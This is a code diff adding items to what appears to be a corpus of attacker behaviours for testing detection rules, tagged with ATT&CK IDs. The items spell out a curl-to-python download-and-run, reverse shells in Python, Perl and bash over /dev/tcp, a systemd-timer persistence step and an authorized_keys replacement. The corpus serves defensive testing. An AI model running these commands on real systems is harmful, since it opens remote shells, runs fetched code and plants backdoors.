@@ -1387,4 +1387,79 @@ BEHAVIOURS: list[Item] = [
         gone=("/etc/init.d/de-corpus-@TAG@-edr",),
         source="Atomic T1562.001 (stop a security service; SysV hosts and containers)",
     ),
+    # --- more shapes of the same techniques (so rules are written for techniques) -----
+    Item(
+        "exec-curl-pipe-python",
+        "A python payload downloaded with curl piped into python3",
+        "curl -fsSL @HTTP@/x.py | python3\n",
+        "execution",
+        "T1059.006",
+        needs=("curl", "python3"),
+        source="Atomic T1059.006 (pipe-to-interpreter)",
+    ),
+    Item(
+        "c2-python-popen-socket",
+        "python reverse shell: create_connection and Popen with the socket as stdio",
+        "python3 -c 'import socket,subprocess; "
+        's=socket.create_connection(("127.0.0.1",@PORT@)); '
+        'subprocess.Popen(["/bin/bash","-i"],stdin=s,stdout=s,stderr=s).wait()\'\n',
+        "command-and-control",
+        "T1059.006",
+        serve="tcp",
+        needs=("python3",),
+        source="revshells.com python3 variant",
+    ),
+    Item(
+        "c2-perl-io-socket",
+        "perl IO::Socket::INET reverse shell running each line it reads",
+        'perl -MIO::Socket::INET -e \'$c=IO::Socket::INET->new(PeerAddr,"127.0.0.1:@PORT@"); '
+        "STDIN->fdopen($c,r); $~->fdopen($c,w); system $_ while <>;'\n",
+        "command-and-control",
+        "T1059.004",
+        serve="tcp",
+        needs=("perl",),
+        source="GTFOBins perl reverse shell (IO::Socket)",
+    ),
+    Item(
+        "c2-bash-exec-redirect",
+        "bash exec'ing an interactive bash wired to /dev/tcp",
+        "bash -c 'exec bash -i &>/dev/tcp/127.0.0.1/@PORT@ <&1'\n",
+        "command-and-control",
+        "T1059.004",
+        serve="tcp",
+        source="revshells.com bash variant",
+    ),
+    Item(
+        "persist-systemd-timer",
+        "A systemd timer and service written and the timer enabled",
+        "cp @WORK@/u.service /etc/systemd/system/de-corpus-@TAG@t.service\n"
+        "cp @WORK@/u.timer /etc/systemd/system/de-corpus-@TAG@t.timer\n"
+        "systemctl enable de-corpus-@TAG@t.timer\n",
+        "persistence",
+        "T1053.006",
+        requires=("root",),
+        needs=("systemctl",),
+        setup="printf '[Service]\\nExecStart=/bin/true\\n' > @WORK@/u.service\n"
+        "printf '[Timer]\\nOnCalendar=*-02-31\\n[Install]\\nWantedBy=timers.target\\n'"
+        " > @WORK@/u.timer\n",
+        cleanup="systemctl disable de-corpus-@TAG@t.timer\n"
+        "rm -f /etc/systemd/system/de-corpus-@TAG@t.service "
+        "/etc/systemd/system/de-corpus-@TAG@t.timer\n",
+        gone=(
+            "/etc/systemd/system/de-corpus-@TAG@t.service",
+            "/etc/systemd/system/de-corpus-@TAG@t.timer",
+            "/etc/systemd/system/timers.target.wants/de-corpus-@TAG@t.timer",
+        ),
+        source="Atomic T1053.006",
+    ),
+    Item(
+        "persist-authorized-keys-cp",
+        "authorized_keys replaced with the attacker's file (cp)",
+        "mkdir -p ~/.ssh\ncp @WORK@/key.pub ~/.ssh/authorized_keys\n"
+        "chmod 600 ~/.ssh/authorized_keys\n",
+        "persistence",
+        "T1098.004",
+        setup=f"echo '{ATTACKER_KEY}' > @WORK@/key.pub\n",
+        source="Atomic T1098.004",
+    ),
 ]
